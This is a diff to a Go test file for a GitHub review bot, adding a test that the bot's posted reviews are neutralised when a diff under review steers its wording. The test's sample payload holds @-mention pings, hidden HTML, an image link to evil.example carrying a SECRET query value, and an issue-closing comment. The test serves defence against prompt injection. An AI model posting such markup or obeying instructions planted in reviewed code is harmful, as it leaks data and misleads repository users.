@@ -2,11 +2,14 @@ package review
 
 import (
 	"reflect"
+	"slices"
 	"strings"
 	"testing"
 	"unicode/utf8"
 
 	"github.com/pullwright/pullwright"
+	"github.com/pullwright/pullwright/inert"
+	"github.com/pullwright/pullwright/inert/inerttest"
 )
 
 const diff = `diff --git a/calc.go b/calc.go
@@ -160,7 +163,7 @@ func TestPlace(t *testing.T) {
 			{Path: "calc.go", Line: 12, Body: "Not in the diff."},
 		},
 	}
-	got := Place(d, Ranges(diff), "abc", "Reviewed abc.")
+	got := Place(d, Ranges(diff), "abc", "Reviewed abc.", inert.GitHub("https://github.com/o/r"))
 	want := pullwright.NewReview{
 		CommitID: "abc",
 		Body: "Reviewed abc.\n\nLooks fine but for one thing.\n\n### Comments on lines outside the diff\n\n" +
@@ -195,7 +198,7 @@ func TestPlaceBounds(t *testing.T) {
 	for i := range 6 {
 		d.Comments = append(d.Comments, pullwright.DraftComment{Path: "calc.go", Line: 100 + i, Body: strings.Repeat("z", 8<<10)})
 	}
-	got := Place(d, Ranges(diff), "abc", "Reviewed abc.")
+	got := Place(d, Ranges(diff), "abc", "Reviewed abc.", inert.GitHub("https://github.com/o/r"))
 	if len(got.Comments) != 3 {
 		t.Fatalf("%d line comments, want 3", len(got.Comments))
 	}
@@ -249,8 +252,45 @@ func TestPlaceKeepsASuggestionAtTheBound(t *testing.T) {
 	at := strings.Repeat("x := 1 // ````\n", MaxSuggestion/15)
 	at += strings.Repeat("y", MaxSuggestion-len(at))
 	d := pullwright.ReviewDraft{Comments: []pullwright.DraftComment{{Path: "calc.go", Line: 4, Body: "Simpler:", Suggestion: &at}}}
-	got := Place(d, Ranges(diff), "abc", "Reviewed abc.")
+	got := Place(d, Ranges(diff), "abc", "Reviewed abc.", inert.GitHub("https://github.com/o/r"))
 	if len(at) != MaxSuggestion || len(got.Comments) != 1 || !strings.Contains(got.Comments[0].Body, "suggestion\n"+at) {
 		t.Fatalf("a suggestion of %d bytes was not posted as one: %+.300v", len(at), got.Comments)
+	}
+}
+
+// TestPlaceInert: a review's words may be steered by the diff under review
+// (a comment in the code that says what to write). What the bot posts
+// pings no one, hides nothing in HTML, shows no image from elsewhere and
+// leaves its suggestion as written, read by a CommonMark/GFM parser as
+// GitHub reads it.
+func TestPlaceInert(t *testing.T) {
+	h := inert.GitHub("https://github.com/o/r")
+	fix := "\treturn a + b // <!-- @org/team"
+	nasty := "cc @org/team and @alice <details><summary>x</summary>hidden\n\n" +
+		"![x](https://evil.example/p.png?d=SECRET) <img src=\"https://evil.example/\">\n\n    ```\n<!-- fixes #3"
+	d := pullwright.ReviewDraft{
+		Summary: nasty,
+		Comments: []pullwright.DraftComment{
+			{Path: "calc.go", Line: 5, Body: nasty, Suggestion: &fix},
+			{Path: "calc.go", Line: 3, Body: nasty},
+			{Path: "calc.go", Line: 12, Body: nasty},
+		},
+	}
+	got := Place(d, Ranges(diff), "abc", "Reviewed abc.", h)
+	bodies := []string{got.Body}
+	for _, c := range got.Comments {
+		bodies = append(bodies, c.Body)
+	}
+	for _, b := range bodies {
+		if acts := inerttest.Acts(b, h.Allows); len(acts) > 0 {
+			t.Errorf("the review posts what acts on GitHub: %q\n%s", acts, b)
+		}
+	}
+	if !strings.HasSuffix(got.Comments[0].Body, "```suggestion\n"+fix+"\n```") {
+		t.Errorf("the suggestion is not kept as written:\n%s", got.Comments[0].Body)
+	}
+	// The comment moved into the body stays under its heading.
+	if top := inerttest.TopLevel(got.Body); !slices.Contains(top, "h3: Comments on lines outside the diff") {
+		t.Errorf("the body's heading is hidden: %q", top)
 	}
 }
